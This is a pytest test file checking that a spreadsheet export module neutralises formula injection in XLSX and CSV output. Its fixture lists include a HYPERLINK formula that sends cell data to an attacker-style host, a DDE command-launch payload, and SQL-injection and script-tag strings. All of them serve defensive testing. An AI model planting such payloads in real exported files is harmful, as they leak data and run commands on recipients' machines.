"""grid.export: formula injection neutralised in every exported file; data otherwise verbatim."""
from __future__ import annotations

from datetime import date, datetime, timezone

import pandas as pd
import pytest
from openpyxl import load_workbook

from grid.export import safe_cell, safe_frame, to_csv_bytes, to_xlsx_bytes, write_xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
VERBATIM = ["Robert'); DROP TABLE household;--", "<script>alert('x')</script>", "张三", "",
            "a=b", "1-2", "'already quoted"]


@pytest.mark.parametrize("value", INJECTIONS)
def test_formula_prefixes_are_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", VERBATIM)
def test_other_text_is_verbatim(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -1.5, 0, 3, True, None, date(2026, 1, 2)])
def test_non_text_values_pass_through(value):
    assert safe_cell(value) is value or safe_cell(value) == value


def test_safe_frame_quotes_cells_and_headers():
    df = pd.DataFrame({"=evil": ["=1+1", "ok"], "n": [-1, 2]})
    out = safe_frame(df)
    assert list(out.columns) == ["'=evil", "n"]
    assert out.iloc[0, 0] == "'=1+1" and out.iloc[1, 0] == "ok"
    assert list(out["n"]) == [-1, 2]
    assert df.iloc[0, 0] == "=1+1"  # the input is not modified


def test_write_xlsx_stores_text_never_formulas(tmp_path):
    df = pd.DataFrame({
        "地址": INJECTIONS + VERBATIM,
        "金额": [float(i) - 3 for i in range(len(INJECTIONS) + len(VERBATIM))],
    })
    other = pd.DataFrame({"when": [datetime(2026, 1, 1, 16, 0, tzinfo=timezone.utc)], "x": [float("nan")]})
    path = write_xlsx({"案件/列表": df, "其他": other}, tmp_path / "out.xlsx")
    wb = load_workbook(path)  # formulas are kept as formulas by openpyxl: data_type would be "f"
    ws = wb.worksheets[0]
    assert ws.title == "案件_列表"
    values = [row for row in ws.iter_rows(min_row=2, values_only=False)]
    for cell, original in zip((r[0] for r in values), df["地址"]):
        assert cell.data_type != "f", (cell.value, cell.data_type)
        if original == "":
            assert cell.value in ("", None)
            continue
        assert cell.data_type in ("s", "inlineStr"), (cell.value, cell.data_type)
        # (XML turns a bare CR into LF; everything else comes back byte for byte)
        assert cell.value == safe_cell(original).replace("\r", "\n")
        if original.startswith(("=", "+", "-", "@", "\t", "\r", "＝")):
            assert cell.value.startswith("'")
            assert cell.value[1:] == original.replace("\r", "\n")
        else:
            assert cell.value == original
    assert [r[1].value for r in values] == list(df["金额"])  # negative numbers stay numbers
    ws2 = wb.worksheets[1]
    assert ws2.cell(2, 1).value == datetime(2026, 1, 2, 0, 0)  # Asia/Shanghai wall clock
    assert ws2.cell(2, 2).value is None
    assert not list(tmp_path.glob(".export-*"))  # temp file renamed away


def test_xlsx_bytes_and_csv_are_neutralised():
    df = pd.DataFrame({"备注": ['=HYPERLINK("x")', "正常"]})
    data = to_xlsx_bytes(df)
    assert data[:2] == b"PK"
    csv = to_csv_bytes(df).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv


def test_sheet_names_are_unique_and_short(tmp_path):
    frames = {"x" * 40: pd.DataFrame({"a": [1]}), "X" * 40: pd.DataFrame({"a": [2]})}
    wb = load_workbook(write_xlsx(frames, tmp_path / "s.xlsx"))
    names = wb.sheetnames
    assert len(names) == 2 and len(set(n.lower() for n in names)) == 2
    assert all(len(n) <= 31 for n in names)
